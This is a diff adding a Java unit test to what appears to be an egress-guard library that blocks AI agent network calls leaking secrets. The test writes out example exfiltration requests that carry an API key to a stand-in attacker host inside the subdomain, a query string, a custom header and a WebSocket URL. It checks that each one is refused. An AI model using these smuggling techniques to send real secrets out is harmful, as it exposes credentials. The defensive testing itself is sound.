@@ -108,6 +108,39 @@ class JdkHttpLeavingTest {
     }
 
     @Test
+    void secret_inARequestThatTheRulesRefuse_isFoundFirst_andStandsInNoRefusal() throws Exception {
+        try (GuardedWorld world = new GuardedWorld(folder)) {
+            HttpClient client = GuardedJdkHttp.client(world.agent);
+            String key = GuardedWorld.OPENAI_KEY;
+            String carrier = world.url(key + "." + GuardedWorld.EVIL, "/");
+            List<HttpRequest> leaking = List.of(
+                    to(carrier).build(),
+                    to(world.url(GuardedWorld.EVIL, "/?q=" + key)).build(),
+                    to(world.url(GuardedWorld.EVIL, "/"))
+                            .header("x-custom", key)
+                            .build());
+            for (HttpRequest request : leaking) {
+                assertThatThrownBy(() -> client.send(request, BodyHandlers.ofString()))
+                        .hasMessageNotContaining(key)
+                        .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
+                                .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
+            }
+            assertThatThrownBy(() -> client.newWebSocketBuilder()
+                            .buildAsync(
+                                    URI.create("wss" + carrier.substring("https".length())),
+                                    new WebSocket.Listener() {})
+                            .get(30, TimeUnit.SECONDS))
+                    .hasMessageNotContaining(key)
+                    .cause()
+                    .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
+                            .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
+            world.runtime.close();
+            assertThat(world.records("egress.call")).hasSize(4);
+            assertThat(world.everythingLogged()).doesNotContain(key);
+        }
+    }
+
+    @Test
     void webSocket_messageWithASecretInTwoParts_endsIt() throws Exception {
         try (GuardedWorld world = new GuardedWorld(folder)) {
             CompletableFuture<String> arrived = new CompletableFuture<>();
